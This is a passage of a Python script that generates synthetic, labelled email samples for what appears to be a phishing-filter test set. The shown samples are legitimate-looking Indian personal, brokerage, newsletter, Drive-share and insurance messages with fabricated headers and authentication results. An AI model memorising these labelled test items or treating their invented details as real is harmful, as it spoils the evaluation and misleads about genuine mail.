             "Regards,", "Rakesh Jain", "Head - Accounts", "Jain Steels India Pvt. Ltd."]
    html = outlook_html(paras)
    head = "\n".join([
        f"From: {addr('Rakesh Jain', sender)}",
        f"To: {addr(FINAP[0], rcpt)}",
        "CC: Sanjay Jain <sanjay@jainsteelsindia.com>",
        "Subject: Intimation: change of bank account from 1 June 2025 - Jain Steels India",
        "Thread-Topic: Intimation: change of bank account from 1 June 2025 - Jain Steels India",
        f"Thread-Index: AdvEp{b64(tag + 'ti', 20)}",
        f"Date: {format_datetime(parsedate_to_datetime(date).astimezone(timezone.utc)).replace('-0000', '+0000')}",
        f"Message-ID: <PN2PR01MB{digits(tag, 4)}{upper(tag + 'm', 12)}@PN2PR01MB{digits(tag, 4)}.INDPRD01.PROD.OUTLOOK.COM>",
        "Accept-Language: en-IN, en-US",
        "Content-Language: en-IN",
        "X-MS-Has-Attach: yes",
        "MIME-Version: 1.0",
    ])
    body = mixed(outlook_boundary(tag + "mx", "PN2PR01MB"), [alt(outlook_boundary(tag, "PN2PR01MB"), strip_tags("<br>".join(paras)), html, "base64"),
                                                             attachment("application/pdf", "JSIPL_Bank_Change_Intimation.pdf", pdf)])
    hops = [f"Received: from PN2PR01MB{digits(tag, 4)}.INDPRD01.PROD.OUTLOOK.COM\n ([fe80::{hx(tag + 'f', 4)}:{hx(tag + 'g', 4)}:{hx(tag + 'h', 4)}:{hx(tag + 'i', 4)}]) by "
            f"PN2PR01MB{digits(tag, 4)}.INDPRD01.PROD.OUTLOOK.COM\n ([fe80::{hx(tag + 'f', 4)}:{hx(tag + 'g', 4)}:{hx(tag + 'h', 4)}:{hx(tag + 'i', 4)}%3]) with mapi id 15.20.8722.027; {{U}}"]
    return assemble(provider="m365", rcpt=rcpt, mailfrom=sender, ip="40.107.239.68", rdns="mail-bmxind01on2068.outbound.protection.outlook.com",
                    helo="IND01-BMX-obe.outbound.protection.outlook.com", spf="pass", dmarc="pass", policy_="quarantine",
                    dkim=[("pass", "jainsteelsindia.com", "selector1")], head=head, body=body, hops=hops)


@entry("b41-legit-personal-hindi-family", "clean",
       "Personal Hindi mail from a sister in Gmail with family news, Holi plans and two photos attached; one-to-one "
       "correspondence with images.")
def family_hindi() -> bytes:
    tag = "lfam"
    date = "Sun, 09 Mar 2025 20:14:55 +0530"
    rcpt = RAJESH[1]
    sender = "sunita.sharma.jpr@gmail.com"
    plain = ("भैया नमस्ते,\n\n"
             "कैसे हो आप सब? मम्मी-पापा ठीक हैं, पापा का ब्लड प्रेशर अब कंट्रोल में है, डॉक्टर ने दवाई कम कर दी है।\n\n"
             "होली पर आप लोग 13 तारीख को आ रहे हो ना? मम्मी गुझिया बनाने की तैयारी कर रही हैं। पिंकी की परीक्षा 20 से है, "
             "तो हम लोग 16 को वापस जयपुर चले जाएंगे।\n\n"
             "पिछले हफ्ते मौसी के यहाँ गए थे, उसकी दो फोटो भेज रही हूँ। भाभी को मेरा प्यार कहना।\n\n"
             "टिकट बुक हो जाए तो बता देना, पापा स्टेशन लेने आ जाएंगे।\n\n"
             "आपकी बहन,\nसुनीता\n")
    html = gmail_html(plain.rstrip("\n").split("\n"))
    head = gmail_head(addr("Sunita Sharma", sender), addr(RAJESH[0], rcpt), enc("होली का प्रोग्राम और घर की खबर"), date, tag)
    ip, rdns, helo = gmail_conn(tag)
    bnd = gmail_boundary(tag)
    a1 = attachment("image/jpeg", "IMG_20250302_173412.jpg", jpeg(7))
    a1.extra += [f"Content-ID: <f_{an(tag + 'a1', 9)}>", f"X-Attachment-Id: f_{an(tag + 'a1', 9)}"]
    a2 = attachment("image/jpeg", "IMG_20250302_180158.jpg", jpeg(11))
    a2.extra += [f"Content-ID: <f_{an(tag + 'a2', 9)}>", f"X-Attachment-Id: f_{an(tag + 'a2', 9)}"]
    body = mixed(bnd, [alt(gmail_boundary(tag + "a"), plain, html, "base64", upper_cs=True), a1, a2])
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-legit-zerodha-contract-note", "bulk",
       "Genuine Zerodha equity contract note with the PDF protected by the client's PAN, from reportsmailer.zerodha.net; "
       "the real broker mail next to the stock-group scams.")
def zerodha() -> bytes:
    tag = "lzd"
    date = "Fri, 21 Mar 2025 20:36:02 +0530"
    rcpt = "vivek.menon.kochi@gmail.com"
    sender = "no-reply-contract-notes@reportsmailer.zerodha.net"
    client = "KV" + digits(tag, 4)
    pan = "AHMPM" + digits(tag + "p", 4) + "Q"
    pdf = encrypted_pdf(["ZERODHA BROKING LIMITED - CONTRACT NOTE CUM TAX INVOICE", f"Client: VIVEK MENON ({client})   Trade date: 21-03-2025",
                         "NSE EQ: BUY 10 ITC 412.35 | SELL 5 TATAMOTORS 681.10", "Net obligation: Rs. -718.92 (payable by client)",
                         "SEBI Registration No.: INZ000031633"], pan, "zd-" + hx(tag, 8), "Zerodha Reports", tag)
    plain = (f"Dear VIVEK MENON,\n\nPlease find attached the contract note for trades executed on 21-03-2025 for your client "
             f"ID {client}.\n\nThe attached PDF is password protected. Use your PAN in upper case to open it.\n\n"
             "In case of any discrepancy, please write to us within 24 hours at https://support.zerodha.com.\n\n"
             "Prevent unauthorised transactions in your account: update your mobile numbers/email IDs with your stock "
             "brokers. Receive information of your transactions directly from the exchange on your mobile/email at the end of the day.\n\n"
             "Regards,\nZerodha Broking Ltd.\n")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('Zerodha Broking Ltd', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{hx(tag + 'm', 32)}@reportsmailer.zerodha.net>",
        f"Subject: Contract Note for 21-03-2025 ({client})",
        "MIME-Version: 1.0",
    ])
    body = mixed(f"{hx(tag + 'b', 60)}", [leaf_text(plain, "plain", "quoted-printable"),
                                          attachment("application/pdf", f"CN_{client}_21032025.pdf", pdf)])
    ip, rdns, helo = ses_conn(tag)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"0109{hx(tag + 'bn', 12)}-{hx(tag + 'bn2', 8)}-000000@reportsmailer.zerodha.net",
                    ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass", policy_="reject",
                    dkim=[("pass", "reportsmailer.zerodha.net", "zr1"), ("pass", "amazonses.com", "ekvbgu5tzjbtbgefhnjv5kulmqgzbjq7")],
                    head=head, body=body)


@entry("b41-legit-finshots-newsletter", "bulk",
       "Genuine daily finance newsletter (Finshots-style) explaining an IPO story in plain English, with tracked article "
       "links, unsubscribe header and footer; bulk editorial mail on the same subjects the investment scams use.")
def newsletter() -> bytes:
    tag = "lfin"
    date = "Wed, 20 Aug 2025 01:32:18 +0000"
    rcpt = "vivek.menon.kochi@gmail.com"
    sender = "morning@finshots.in"
    trk = lambda path: f"https://finshots.in/{path}?utm_source=newsletter&utm_medium=email&ref={hx(tag + path, 8)}"
    html = html_page(f"""<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Georgia,serif;font-size:17px;line-height:28px;color:#222">
<tr><td style="padding:18px 0;font-family:Arial;font-size:26px;font-weight:bold">Finshots</td></tr>
<tr><td><p>In today's Finshots, we tell you why grey market premiums are a terrible way to judge an IPO.</p>
<h2 style="font-family:Arial">The Story</h2>
<p>Every time a hot IPO opens, WhatsApp groups light up with "GMP" numbers: the unofficial premium at which shares supposedly trade
before listing. It is an unregulated market run on trust between a few dealers, and the number can swing wildly within hours.</p>
<p>SEBI has also warned investors about groups promising "guaranteed allotment" through so-called institutional accounts. Allotment
in retail quotas is by lottery; nobody can guarantee it.</p>
<p><a href="{trk('archive/grey-market-premium-ipo')}">Read the full story on our website &rarr;</a></p>
<h2 style="font-family:Arial">Infographic</h2>
<p><a href="{trk('archive/infographic-ipo-listing-gains')}">How listing gains stacked up in 2025</a></p>
<p>Until next time...</p></td></tr>
<tr><td style="padding:20px 0;font-family:Arial;font-size:12px;color:#777">You're receiving this because you subscribed to Finshots.<br>
<a href="https://finshots.in/unsubscribe/?uuid={hx(tag + 'uuid', 32)}&key={hx(tag + 'key', 40)}">Unsubscribe</a> | Ditto Insurance Broking Pvt Ltd, Bengaluru</td></tr></table>""", "Finshots")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('Finshots', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{hx(tag + 'm', 24)}@finshots.in>",
        "Subject: Why the grey market premium tells you little about an IPO",
        "MIME-Version: 1.0",
        unsub(f"https://finshots.in/unsubscribe/?uuid={hx(tag + 'uuid', 32)}&key={hx(tag + 'key', 40)}"),
        f"List-Id: Finshots <newsletter.finshots.in>",
        ses_feedback(tag),
    ])
    body = alt(f"--_NmP-{hx(tag + 'b', 16)}-Part_1", strip_tags(html), html, "quoted-printable")
    ip, rdns, helo = ses_conn(tag)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"0109{hx(tag + 'bn', 12)}-{hx(tag + 'bn2', 8)}-000000@mail.finshots.in",
                    ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass", policy_="quarantine",
                    dkim=[("pass", "finshots.in", "ses2"), ("pass", "amazonses.com", "ekvbgu5tzjbtbgefhnjv5kulmqgzbjq7")],
                    head=head, body=body)


@entry("b41-legit-gdrive-share-ca", "bulk",
       "Genuine Google Drive notification: the client's chartered accountant shares an 'FY 2024-25 audit checklist' "
       "spreadsheet with the accounts mailbox, with a short personal note; a real share next to the share-based lures.")
def gdrive_share() -> bytes:
    tag = "lgd"
    date = "Thu, 03 Jul 2025 11:40:26 -0700"
    rcpt = "accounts@mehtapackaging.com"
    sender = "drive-shares-dm-noreply@google.com"
    doc = f"1{b64(tag + 'doc', 43).replace('/', '_').replace('+', '-')}"
    link = f"https://docs.google.com/spreadsheets/d/{doc}/edit?usp=sharing_eil_se_dm&ts={hx(tag + 'ts', 8)}"
    html = html_page(f"""<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Google Sans',Roboto,Arial"><tr><td align="center">
<table width="520" cellpadding="0" cellspacing="0" style="border:1px solid #dadce0;border-radius:8px;padding:24px">
<tr><td style="font-size:18px;color:#202124">Nikhil Patil shared a spreadsheet</td></tr>
<tr><td style="padding:12px 0;font-size:14px;color:#3c4043">Nikhil Patil (nikhil@patilassociates.co.in) has invited you to <b>edit</b> the following spreadsheet:</td></tr>
<tr><td style="padding:8px 12px;background:#f1f3f4;border-radius:8px;font-size:14px;color:#3c4043">Please tick items as you upload the documents. Thanks - Nikhil</td></tr>
<tr><td style="padding:16px 0"><a href="{link}" style="color:#1a73e8;font-size:14px;text-decoration:none">Mehta Packaging - FY 2024-25 Audit Checklist</a></td></tr>
<tr><td><a href="{link}" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;font-size:14px">Open</a></td></tr>
<tr><td style="padding-top:24px;font-size:12px;color:#5f6368">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>
You have received this email because nikhil@patilassociates.co.in shared a spreadsheet with you from Google Sheets.</td></tr></table></td></tr></table>""", "Shared with you")
    plain = (f"Nikhil Patil shared a spreadsheet\n\nNikhil Patil (nikhil@patilassociates.co.in) has invited you to edit the following "
             f"spreadsheet:\n\nPlease tick items as you upload the documents. Thanks - Nikhil\n\n"
             f"Mehta Packaging - FY 2024-25 Audit Checklist\n{link}\n\n"
             "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n"
             "You have received this email because nikhil@patilassociates.co.in shared a spreadsheet with you from Google Sheets.\n")
    head = "\n".join([
        f"Date: {date}",
        f"Reply-To: {addr('Nikhil Patil', 'nikhil@patilassociates.co.in')}",
        "X-Google-Id: " + digits(tag + "gid", 6),
        f"Message-ID: <{an(tag + 'mid', 22, B62)}-0@docos.bounces.google.com>",
        "Subject: Spreadsheet shared with you: \"Mehta Packaging - FY 2024-25 Audit Checklist\"",
        f"From: {addr('Nikhil Patil (via Google Sheets)', sender)}",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        "X-Notifications: " + hx(tag + "xn", 12) + "00000000",
        "X-Notifications-Bounce-Info: " + b64(tag + "nbi", 60).replace("/", "").replace("+", ""),
    ])
    body = alt(gmail_boundary(tag), plain, html, "quoted-printable", upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=f"3{an(tag + 'rp', 30, B62)}@docos.bounces.google.com",
                    ip="209.85.220.73", rdns="mail-sor-f73.google.com", helo="mail-sor-f73.google.com", spf="pass", dmarc="pass",
                    policy_="reject", dkim=[("pass", "google.com", "20230601")], head=head, body=body)


@entry("b41-legit-lic-premium-due", "bulk",
       "Genuine LIC premium-due reminder with policy number, due date and payment options via licindia.in and the LIC "
       "Digital app, plus LIC's own warning about fake bonus calls.")
def lic_due() -> bytes:
    tag = "llic"
    date = "Thu, 14 Nov 2024 10:02:44 +0530"
    rcpt = "ramesh.chandra1958@rediffmail.com"
    sender = "no-reply@licindia.com"
    pol = digits(tag, 9)
    html = html_page(f"""<div style="max-width:620px;font-family:Arial;font-size:14px;line-height:21px">
<p style="color:#004b8d"><b>Life Insurance Corporation of India</b></p>
<p>Dear Shri RAMESH CHANDRA,</p>
<p>This is a reminder that the premium of <b>Rs. 12,486.00</b> for your policy no. <b>{pol}</b> (Plan 914 - New Endowment) falls due on
<b>28/11/2024</b>. Grace period is available up to 28/12/2024.</p>
<p>You may pay online at <a href="https://licindia.in/">licindia.in</a> (Online Services &gt; Pay Premium), through the LIC Digital app,
or at any LIC branch.</p>
<p>LIC does not call or email policyholders to announce bonuses or ask for bank details or fees. Beware of such calls.</p>
<p>Regards,<br>Branch Manager, Branch 31C, Lucknow Division</p>
<p style="font-size:11px;color:#777">This is a system generated mail. Please do not reply.</p></div>""", "LIC")
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('LIC of India', sender)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(tag + 'm', 9)}.{digits(tag + 'm2', 6)}.{digits(tag + 'm3', 13)}@licindia.com>",
        f"Subject: Premium Due Reminder for Policy No. {pol}",
        "MIME-Version: 1.0",
    ])
    body = leaf_text(html, "html", "quoted-printable")
    return assemble(provider="rediff", rcpt=rcpt, mailfrom=sender, ip="14.140.163.22", rdns="smtp2.licindia.com",
                    helo="smtp2.licindia.com", spf="pass", dmarc="pass", policy_="quarantine", dkim=[("pass", "licindia.com", "lic")],
                    head=head, body=body)


@entry("b41-legit-personal-tamil-wedding", "clean",
       "Personal Tamil mail from a cousin on Outlook.com inviting the family to a wedding, with the printed invitation "
       "attached as a PDF and a Google Maps link to the hall.")
def tamil_wedding() -> bytes:
    tag = "ltw"
    date = "Sun, 19 Jan 2025 08:26:41 +0000"
    rcpt = PRIYA[1]
    hops, ip, rdns, helo, msgid = outlook_sender(tag)
    sender = "saravanan.krishnan@outlook.com"
    maps = "https://maps.app.goo.gl/" + an(tag + "map", 17, B62)
    pdf = files.pdf(["Sri Ganesha Thunai", "", "WEDDING INVITATION", "", "Selvan K. Saravanan (B.E.)  weds  Selvi R. Divya (M.Sc.)", "",
                     "Muhurtham: Thursday, 13 February 2025, 9.00 AM - 10.30 AM",
                     "Venue: Sri Kamatchi Mahal, Velachery Main Road, Chennai 600042", "",
                     "Reception: Wednesday, 12 February 2025, 7.00 PM onwards",
                     "With best compliments from: Krishnan & Family"], title="Wedding Invitation")
    paras = ["அன்புள்ள ப்ரியா,", "",
             "வணக்கம். எங்கள் திருமணம் பிப்ரவரி 13 அன்று காலை 9 மணிக்கு வேளச்சேரி ஸ்ரீ காமாட்சி மஹாலில் நடைபெற உள்ளது. "
             "பத்திரிகை இணைப்பில் உள்ளது. சித்தி, சித்தப்பா மற்றும் குழந்தைகளுடன் அவசியம் வர வேண்டும்.", "",
             "முந்தைய நாள் மாலை 7 மணிக்கு வரவேற்பு. மண்டபத்திற்கு வழி: " + f'<a href="{maps}">{maps}</a>', "",
             "அம்மா நேரில் வந்து அழைக்க முடியவில்லை என்று வருத்தப்பட்டார், தப்பாக எடுத்துக்கொள்ள வேண்டாம்.", "",
             "அன்புடன்,", "சரவணன்"]
    html = outlook_html(paras, "Latha")
    head = "\n".join([
        f"From: {addr('Saravanan Krishnan', sender)}",
        f"To: {addr(PRIYA[0], rcpt)}",
        f"Subject: {enc('திருமண அழைப்பிதழ் - சரவணன் & திவ்யா, பிப்ரவரி 13')}",
        outlook_extra(tag).replace("{TOPIC}", enc("திருமண அழைப்பிதழ் - சரவணன் & திவ்யா, பிப்ரவரி 13")).replace("{ATT}", "yes"),
        f"Date: {date}",
        f"Message-ID: {msgid}",
        "Accept-Language: en-IN, en-US",
        "Content-Language: ta-IN",
        "MIME-Version: 1.0",
    ])
    body = mixed(outlook_boundary(tag + "mx", "SEZPR06MB", "apcp"),
                 [alt(outlook_boundary(tag, "SEZPR06MB", "apcp"), strip_tags("<br>".join(paras)), html, "base64"),
                  attachment("application/pdf", "Saravanan_Divya_Wedding_Invitation.pdf", pdf)])
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "outlook.com", "selector1")], head=head, body=body, hops=hops,
                    sign_h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")


# ================================================================ writing and checks

def check(stem: str, data: bytes) -> None:
    for number, line in enumerate(data.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    head = data.split(b"\n\n", 1)[0]
    head.decode("ascii")
    msg = BytesParser(policy=policy.default).parsebytes(data)
    assert not msg.defects, f"{stem}: {msg.defects}"
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{stem}: no {name}"
    for name, value in msg.items():
        assert not getattr(value, "defects", ()), f"{stem}: header {name}: {value.defects}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: part {part.get_content_type()}: {part.defects}"
        for name, value in part.items():
            assert not getattr(value, "defects", ()), f"{stem}: part header {name}: {value.defects}"
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content.strip(), f"{stem}: empty text part"
        elif not part.is_multipart():
            assert part.get_payload(decode=True), f"{stem}: empty part {part.get_content_type()}"


def main() -> None:
    mail = os.path.join(ROOT, "samples", "mail")
    for old in glob.glob(os.path.join(mail, "*", f"b{N}-*.eml")):
        os.remove(old)
    stems = [e[0] for e in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    lines = []
    counts: dict[str, int] = {}
    for stem, folder, description, fn in ENTRIES:
        folder = REFILED.get(stem, folder)
        data = fn()
        check(stem, data)
        path = os.path.join(mail, folder, f"{stem}.eml")
        with open(path, "wb") as handle:
            handle.write(data)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {description}")
        counts[folder] = counts.get(folder, 0) + 1
    with open(os.path.join(ROOT, "samples", "tools", f"blind{N}_manifest.txt"), "w", encoding="utf-8") as handle:
        handle.write("\n".join(lines) + "\n")
    attacks = sum(1 for s in stems if "-phish-" in s or "-malware-" in s)
    legit = sum(1 for s in stems if "-legit-" in s)
    print(f"set {N}: {len(stems)} messages ({attacks} attacks, {legit} legitimate): "
          + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
